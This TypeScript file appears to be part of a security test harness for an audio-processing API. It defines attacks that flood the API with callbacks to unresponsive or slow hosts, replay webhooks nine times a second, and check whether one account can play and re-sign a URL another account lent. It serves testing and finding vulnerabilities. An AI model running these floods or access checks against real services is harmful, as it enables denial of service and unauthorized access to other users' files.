/** Names, callbacks and whose URLs they are: what the node does outside for an account. */
import { randomUUID } from "node:crypto";
import type { Attack } from "../attack.ts";
import { shortWav } from "../bombs.ts";

const NORMALISE = "adapt.normalise_loudness";
/** Finding 1. */
const SUBMISSIONS = 80;

export const OUTSIDE: readonly Attack[] = [
  {
    name: "silent-callbacks",
    finding: "1",
    what: "80 refunded submissions at once, then 4 a second, with callbacks on names whose resolver never answers",
    needs: "silent_resolver",
    async prepare(attacker) {
      const url = await attacker.upload(shortWav());
      const submit = () =>
        attacker.submit(NORMALISE, { source: { url }, callback_url: `https://${randomUUID()}.example.net/hook` });
      return async () => {
        await Promise.all(Array.from({ length: SUBMISSIONS }, submit));
        await attacker.atRate(4, submit);
      };
    },
  },
  {
    name: "silent-sources",
    finding: "1",
    what: "80 submissions at once, then 4 a second, of sources on such names",
    needs: "silent_resolver",
    async prepare(attacker) {
      const submit = () =>
        attacker.submit(NORMALISE, { source: { url: `https://${randomUUID()}.example.net/song.wav` } });
      return async () => {
        await Promise.all(Array.from({ length: SUBMISSIONS }, submit));
        await attacker.atRate(4, submit);
      };
    },
  },
  {
    name: "dripping-sources",
    finding: "own",
    what: "20 submissions at once, then 1 a second, of a source that comes a byte a second",
    needs: "receiver",
    async prepare(attacker) {
      const submit = () =>
        attacker.submit(NORMALISE, { source: { url: `${attacker.orders.receiver}/drip/${randomUUID()}` } });
      return async () => {
        await Promise.all(Array.from({ length: 20 }, submit));
        await attacker.atRate(1, submit);
      };
    },
  },
  {
    name: "lent-url",
    finding: "5",
    what: "submits a URL that the victim lent, has the dashboard play it and sign it again",
    async prepare(attacker) {
      const visitor = await attacker.signedIn();
      const { file_url } = attacker.orders.victim;
      const lent = new URL(file_url);
      return () =>
        attacker.inParallel(1, async () => {
          const id = await attacker.submit(NORMALISE, { source: { url: file_url } });
          if (id === undefined) return;
          await attacker.ended(NORMALISE, id);
          const played = await visitor.get(`/operations/${id}/sources/source/audio`);
          const again = await visitor.get(`/playground/${NORMALISE}?again=${id}`);
          attacker.count(played.status);
          if (played.status === 200) attacker.faults.push("plays what another account lent, by session");
          const signed = again.text.replaceAll("&amp;", "&").match(/https?:\/\/[^"'\s<>]+/gu) ?? [];
          const is_new = (text: string): boolean => text.includes(lent.pathname) && text !== file_url;
          if (signed.some(is_new)) attacker.faults.push("has what another account lent signed again");
          await attacker.pause(300);
        });
    },
  },
  {
    name: "hanging-receiver",
    finding: "low",
    what: "100 callbacks at once, then 4 a second, to the victim's webhook host, which takes them and never answers",
    needs: "receiver",
    async prepare(attacker) {
      const url = await attacker.upload(shortWav());
      const submit = () =>
        attacker.submit(NORMALISE, {
          source: { url },
          callback_url: `${attacker.orders.receiver}/hang/${randomUUID()}`,
        });
      return async () => {
        await Promise.all(Array.from({ length: 100 }, submit));
        await attacker.atRate(4, submit);
      };
    },
  },
  {
    name: "redelivery",
    finding: "low",
    what: "has one webhook sent again and again to somebody, 9 times a second",
    needs: "receiver",
    async prepare(attacker) {
      const url = await attacker.upload(shortWav());
      const callback_url = `${attacker.orders.receiver}/reflected/${randomUUID()}`;
      const id = await attacker.submit(NORMALISE, { source: { url }, callback_url });
      if (id === undefined || (await attacker.ended(NORMALISE, id)) === "") throw new Error("There is no webhook");
      return () =>
        attacker.atRate(9, () =>
          attacker.api("PUT", "/v1/operations.redeliver", { idempotency_key: randomUUID(), id }),
        );
    },
  },
];
